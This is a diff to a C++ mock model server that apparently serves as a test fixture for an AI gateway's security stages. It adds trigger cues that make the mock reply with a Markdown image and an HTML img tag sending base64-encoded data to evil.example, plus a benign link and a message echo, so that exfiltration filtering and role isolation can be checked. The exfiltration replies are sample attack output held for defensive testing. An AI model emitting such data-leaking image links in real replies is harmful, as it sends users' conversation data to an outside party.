@@ -8,6 +8,13 @@
 //   MOCK_STALL    stall (30 s) before answering / mid-stream    -> upstream timeouts
 //   MOCK_RESET    close the connection with a reset              -> upstream errors
 //   MOCK_GARBAGE  answer with bytes that are not HTTP (or a broken SSE event when streaming)
+//   MOCK_EXFIL_IMAGE   reply holds a Markdown image leaking data to evil.example  -> exfil_links
+//   MOCK_EXFIL_HTML    reply holds an HTML <img> leaking data to evil.example     -> exfil_links
+//   MOCK_BENIGN_LINK   reply holds an ordinary link to docs.example.com (must pass)
+//   MOCK_ECHO_MESSAGES reply is the JSON of the "messages" the mock received (to check what
+//                      role_isolation, spotlight and data_exposure forwarded)
+// The gateway forwards a route's full path, so the OpenAI endpoints are also served under a
+// prefix ("/iso-block/v1/chat/completions"), letting one mock stand behind many routes.
 //
 // Streams ("stream": true) are SSE, four bytes of text per event, so every pattern is split
 // across events. Every JSON reply carries "mock_authorization": the Authorization header the
@@ -68,7 +75,31 @@ std::string LastUserText(const json::value& req) {
   return text;
 }
 
+// Cues for the issue-6 stages (role_isolation, spotlight, exfil_links, data_exposure);
+// "" when none applies.
+std::string IsolationCueReply(const std::string& body) {
+  if (Has(body, "MOCK_EXFIL_IMAGE")) {
+    return "Here is your chart: ![chart](https://evil.example/p?d=c2VjcmV0LWNvbnZlcnNhdGlvbg) "
+           "Anything else?";
+  }
+  if (Has(body, "MOCK_EXFIL_HTML")) {
+    return "Done. <img src=\"https://evil.example/p?d=c2VjcmV0\" alt=\"x\"> Thanks.";
+  }
+  if (Has(body, "MOCK_BENIGN_LINK")) {
+    return "See [the guide](https://docs.example.com/guide) for details.";
+  }
+  if (Has(body, "MOCK_ECHO_MESSAGES")) {
+    boost::system::error_code ec;
+    json::value v = json::parse(body, ec);
+    const json::value* msgs =
+        !ec && v.is_object() ? v.get_object().if_contains("messages") : nullptr;
+    return msgs != nullptr ? json::serialize(*msgs) : std::string("[]");
+  }
+  return "";
+}
+
 std::string Reply(const std::string& body, const std::string& user_text) {
+  if (std::string cue = IsolationCueReply(body); !cue.empty()) return cue;
   if (Has(body, "MOCK_CARD")) return std::string("Sure, the card on file is ") + kCard + ".";
   if (Has(body, "MOCK_SECRET")) return std::string("Here is the deploy token: ") + kSecret;
   if (Has(body, "MOCK_INJECT")) {
@@ -145,6 +176,9 @@ void Serve(tcp::socket s) {
     auto req = parser.release();
     const std::string& body = req.body();
     std::string target(req.target());
+    if (size_t v1 = target.find("/v1/"); v1 != std::string::npos && v1 > 0) {
+      target.erase(0, v1);  // a route prefix (see the header)
+    }
     if (Has(body, "MOCK_RESET") && !Has(body, "\"stream\":true")) return Reset(s);
     if (Has(body, "MOCK_GARBAGE") && !Has(body, "\"stream\":true")) {
       asio::write(s, asio::buffer(std::string("NOT HTTP AT ALL\r\n\r\n")), ec);
